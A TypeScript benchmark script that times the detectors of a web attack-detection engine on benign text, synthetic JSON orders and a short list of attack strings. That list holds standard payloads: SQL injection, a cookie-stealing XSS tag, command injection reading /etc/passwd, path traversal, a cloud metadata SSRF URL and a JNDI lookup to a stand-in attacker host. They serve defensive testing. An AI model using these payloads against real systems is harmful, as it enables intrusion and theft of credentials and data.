/**
 * Micro-benchmarks of the attack-detection engine: each detector on its own, then the whole inspection of a
 * 10 KB JSON body (extraction, decoding layers, every detector) as the protection runs it.
 *
 *   node bench/micro/inspection.ts [--iterations N]
 *
 * Prints microseconds per call (mean and p99) per detector and per input, and p50/p99 for the body.
 */
import { performance } from 'node:perf_hooks';
import { parseArgs } from 'node:util';
import { DETECTORS } from '../../src/inspect/detect/index.ts';
import type { DetectorContext } from '../../src/inspect/finding.ts';
import { inspectInputs } from '../../src/inspect/engine.ts';
import { compileSettings } from '../../src/protections/attack-detection/attack-detection.ts';
import { bodyInputs } from '../../src/protections/attack-detection/request-inputs.ts';
import { createLocalStores } from '../../src/store/registry.ts';

const { values } = parseArgs({ options: { iterations: { type: 'string', default: '2000' } } });
const iterations = Number(values.iterations);

/** Ordinary text of about 10 KB: product prose with punctuation, numbers, quotes and a URL or two. */
function prose(bytes: number, from = 0): string {
  const sentences = [
    "Our sourdough is baked fresh every morning; it's made from flour, water & salt (nothing else).",
    'Select a size from the list below, then add it to your basket - delivery takes 1 or 2 days.',
    'Questions? Write to support@example.com or see https://example.com/help?topic=delivery&lang=en.',
    "O'Brien's order #1024 shipped on 2026-11-20 at 10:30, tracking code KR-4471-AB.",
    'Prices include VAT (10%); a discount of 5% applies to orders over 50,000 KRW.',
  ];
  let text = '';
  for (let i = from; text.length < bytes; i++) text += sentences[i % sentences.length] + ' ';
  return text.slice(0, bytes);
}

/**
 * A 10 KB JSON order document with nested objects, arrays and free-text fields. `seed` makes every value that a
 * real order would carry differently (order id, SKUs, notes, names) unique to this document, so a benchmark that
 * cycles through documents never replays a remembered result for them; keys and small numbers repeat, as in life.
 */
function orderJson(bytes: number, seed: number): string {
  const items = [];
  let doc = '';
  for (let i = 0; ; i++) {
    items.push({
      sku: `SKU-${seed}-${1000 + i}`, name: `Item ${seed}/${i} - oat & honey loaf`, qty: (i % 3) + 1, price: 4500 + i * 10,
      note: `${prose(100 + (i % 7) * 5, seed + i)} (ref ${seed}.${i})`,
    });
    doc = JSON.stringify({
      orderId: `ord_${seed}`,
      customer: { name: `Ji-woo O'Neil ${seed}`, email: `jiwoo${seed}@example.com`, phone: `010-${1000 + (seed % 9000)}-5678` },
      items, comment: `${prose(400, seed)} Order ${seed}.`,
    });
    if (doc.length >= bytes) return doc;
  }
}

const ATTACKS: string[] = [
  "1' OR '1'='1' -- ",
  '1 UNION SELECT username, password FROM users',
  '<img src=x onerror=alert(document.cookie)>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  '${jndi:ldap://attacker.example/a}',
  '{{7*7}}',
];

function percentile(sorted: number[], p: number): number {
  return sorted[Math.min(sorted.length - 1, Math.floor((p / 100) * sorted.length))]!;
}

function time(fn: () => void, n: number): { mean: number; p99: number } {
  const samples: number[] = [];
  for (let i = 0; i < Math.min(200, n); i++) fn(); // warm-up
  for (let i = 0; i < n; i++) {
    const start = performance.now();
    fn();
    samples.push((performance.now() - start) * 1000);
  }
  samples.sort((a, b) => a - b);
  return { mean: samples.reduce((a, b) => a + b, 0) / samples.length, p99: percentile(samples, 99) };
}

const context: DetectorContext = { source: 'query', name: 'q', isName: false, paranoia: 1, layers: [] };
const benign = prose(10 * 1024);
/** A file sent inside JSON: 100 KB of base64 of pseudo-random bytes (fixed seed, the same in every run). */
const blob = (() => {
  const bytes = Buffer.alloc(75 * 1024);
  let x = 2463534242;
  for (let i = 0; i < bytes.length; i++) { x ^= x << 13; x ^= x >>> 17; x ^= x << 5; bytes[i] = x & 0xff; }
  return bytes.toString('base64');
})();
console.log(`node ${process.version}; ${iterations} iterations; ${DETECTORS.length} detectors`);
console.log('\ndetector        10 KB prose mean/p99 µs    8 attack strings mean/p99 µs    100 KB base64 mean µs');
let blobTotal = 0;
for (const detector of DETECTORS) {
  const onProse = time(() => detector.detect(benign, context, () => {}), iterations);
  const onAttacks = time(() => { for (const attack of ATTACKS) detector.detect(attack, context, () => {}); }, iterations);
  const onBlob = time(() => detector.detect(blob, context, () => {}), Math.max(20, Math.round(iterations / 50)));
  blobTotal += onBlob.mean;
  console.log(`${detector.category.padEnd(15)} ${onProse.mean.toFixed(1).padStart(10)} / ${onProse.p99.toFixed(1).padEnd(12)} ${onAttacks.mean.toFixed(1).padStart(10)} / ${onAttacks.p99.toFixed(1).padEnd(18)} ${onBlob.mean.toFixed(0).padStart(8)}`);
}
console.log(`every detector on the 100 KB base64 value: ${(blobTotal / 1000).toFixed(2)} ms`);

// The whole body as the protection inspects it: the engine settings compiled from the default configuration (with
// the result cache for short values), over documents whose values are unique to each document.
const settings = compileSettings({}, { policy: {} as never, stores: createLocalStores(), scope: 'global', issue: () => {} });
const DOCUMENTS = 512;
const bodies = Array.from({ length: DOCUMENTS }, (_, seed) => Buffer.from(orderJson(10 * 1024, seed + 1)));
// The body's inputs as the protection takes them (bodyInputs: each key once, no numbers or booleans).
const bodyOptions = { unknownBodyTypes: 'reject' as const, uninspected: [] };
const inspectBody = (body: Buffer): void => {
  const extracted = bodyInputs('application/json', body, bodyOptions);
  if (!('inputs' in extracted) || extracted.inputs === null) throw new Error('the benchmark body does not parse');
  if (inspectInputs(extracted.inputs, settings).length > 0) throw new Error('the benchmark body is benign and must pass');
};
for (let i = 0; i < DOCUMENTS; i++) inspectBody(bodies[i]!); // warm-up: every document once (keys enter the cache)
const fresh = Array.from({ length: iterations }, (_, i) => Buffer.from(orderJson(10 * 1024, DOCUMENTS + i + 1)));
const samples: number[] = [];
for (const body of fresh) {
  const start = performance.now();
  inspectBody(body);
  samples.push(performance.now() - start);
}
samples.sort((a, b) => a - b);
const mean = samples.reduce((a, b) => a + b, 0) / samples.length;
console.log(`\n10 KB JSON body (${fresh[0]!.length} bytes, ${iterations} documents each seen once), extract + decode + every detector at paranoia 1:`);
console.log(`  mean ${mean.toFixed(3)} ms, p50 ${percentile(samples, 50).toFixed(3)} ms, p99 ${percentile(samples, 99).toFixed(3)} ms (target p99 < 1 ms)`);
